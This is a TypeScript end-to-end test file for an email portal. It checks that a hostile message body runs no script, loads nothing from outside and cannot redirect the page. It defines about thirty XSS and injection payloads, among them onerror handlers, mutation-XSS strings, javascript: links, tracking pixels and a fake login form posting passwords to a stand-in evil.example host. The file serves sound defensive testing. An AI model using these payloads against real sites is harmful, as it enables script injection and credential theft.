import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { sendMessage } from '../../contract/send.ts';
import { enrolByLink, readBody } from '../support/portal-page.ts';
import { staffCall } from '../support/staff-call.ts';
import { aMessage } from '../support/story.ts';
import { useProduct } from '../support/use-product.ts';

const journey = useProduct();

/** Stands for the attacker's server: it notes who came. */
const visits: string[] = [];
const attacker = createServer((request, response) => {
  visits.push(request.url ?? '');
  response.end();
});
beforeAll(async () => {
  attacker.listen(0, '127.0.0.1');
  await once(attacker, 'listening');
});
afterAll(() => void attacker.close());

const armed = () =>
  attacks.join('\n').replaceAll('https://evil.example', `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`);

/** What a hostile body tries: to run `top.hacked`, to load from elsewhere, to leave the page, to look like ours. */
const attacks = [
  '<script>top.hacked = 1</script>',
  '<img src=x onerror="top.hacked = 2">',
  '<svg onload="top.hacked = 3"><script>top.hacked = 4</script></svg>',
  '<svg><animate onbegin="top.hacked = 5" attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hacked=6&gt;">',
  '<iframe srcdoc="<script>top.hacked = 7</script>"></iframe>',
  '<iframe src="javascript:top.hacked = 8"></iframe>',
  '<object data="data:text/html,<script>top.hacked=9</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<a id="attack-link" href="javascript:top.hacked = 10">click</a>',
  '<a href="jav&#x09;ascript:top.hacked = 11">click</a>',
  '<form action="https://evil.example/steal"><input name=password><button>Log in again</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/y.css"; body { background: url(https://evil.example/z.png) }</style>',
  '<p style="background-image:url(https://evil.example/a.png)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff">Log in again</p>',
  '<img src="https://evil.example/pixel.png">',
  '<img srcset="https://evil.example/pixel2.png 1x">',
  '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>',
  '<video src="https://evil.example/v.mp4" autoplay onloadstart="top.hacked = 12"></video>',
  '<audio src="https://evil.example/v.mp3" autoplay></audio>',
  '<details open ontoggle="top.hacked = 13">x</details>',
  '<div onpointerenter="top.hacked = 14" onmouseover="top.hacked = 15" style="width:100%;height:50px">hover</div>',
  '<template><script>top.hacked = 16</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=top.hacked=17>"></noscript>',
  '<a name="body"></a><img name="getElementById"><form id="forms"></form>',
  '<input autofocus onfocus="top.hacked = 18">',
  '<button popovertarget=p>x</button><div popover id=p>x</div>',
];

test('a hostile message body runs nothing, loads nothing and stays in its place', async () => {
  const call = await staffCall(journey.product);
  const address = 'hostile@client.example';
  const html = `<p>Harmless beginning</p>${armed()}`;
  await call(
    sendMessage,
    aMessage({ recipients: [{ address, kind: 'to' }], subject: '<img src=x onerror="top.hacked=19">', html }),
  );
  const reader = await journey.person();
  await enrolByLink(reader, journey.product, address);
  const text = await readBody(reader);
  expect(text).toContain('Harmless beginning');
  const frame = reader.frameLocator('iframe[src="/frame"]');
  await frame.getByText('hover').hover();
  await reader.waitForTimeout(1500);
  expect(await reader.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined();
  expect(visits).toEqual([]);
  expect(
    await frame
      .locator('#message')
      .locator('form, input, button, iframe, object, embed, svg, [onclick], [onerror], style, base, meta[http-equiv]')
      .count(),
  ).toBe(0);
  expect(reader.url()).toContain('/portal/inbox/');
}, 120_000);

test('the frame of a body alone, with no cleaning, runs and loads nothing either', async () => {
  const page = await journey.person();
  await page.goto(`${journey.product.origin}/portal/sign-in`);
  await page.evaluate(async (body) => {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-same-origin allow-modals allow-popups allow-popups-to-escape-sandbox');
    frame.src = '/frame';
    const isLoaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    document.body.append(frame);
    await isLoaded;
    const shell = frame.contentDocument;
    // Written as a whole document, scripts and all: what a cleaner that fails completely would let through.
    for (const element of [...new DOMParser().parseFromString(body, 'text/html').body.children])
      shell?.body.append(shell.importNode(element, true));
  }, armed());
  await page.waitForTimeout(1500);
  expect(await page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined();
  expect(visits).toEqual([]);
}, 60_000);
